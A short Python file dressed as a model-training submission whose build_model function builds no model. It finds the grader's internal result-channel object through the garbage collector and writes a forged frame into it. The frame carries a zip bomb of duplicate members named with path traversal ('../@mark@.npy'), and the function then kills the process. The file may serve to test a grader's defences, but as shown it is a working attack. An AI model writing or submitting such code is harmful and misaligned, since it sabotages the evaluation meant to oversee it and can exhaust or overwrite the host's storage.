"""Sends an archive of arrays that unpacks to gigabytes, with members of one name."""

import gc
import io
import os
import zipfile

TRAINING = {"epochs": 2, "batch_size": 64}
def frame(name, body):
    """Return a frame that carries an array."""
    payload = bytes([len(name)]) + name + body
    return b"GRD1A" + len(payload).to_bytes(8, "little") + payload


def header(text, body=b""):
    """Return an array file with a header of its own."""
    return b"\x93NUMPY\x01\x00" + len(text).to_bytes(2, "little") + text + body


def result_pipe():
    """Find the grader's own object that talks to it."""
    return next(item for item in gc.get_objects() if type(item).__name__ == "Emitter")

def build_model(input_shape, num_classes):
    """Send an array that should not be accepted."""
    pipe = result_pipe()
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        for _ in range(3):
            archive.writestr("../@mark@.npy", b"\0" * 2**24)
    pipe._write(frame(b"weights/000000", bomb.getvalue()))
    os._exit(0)
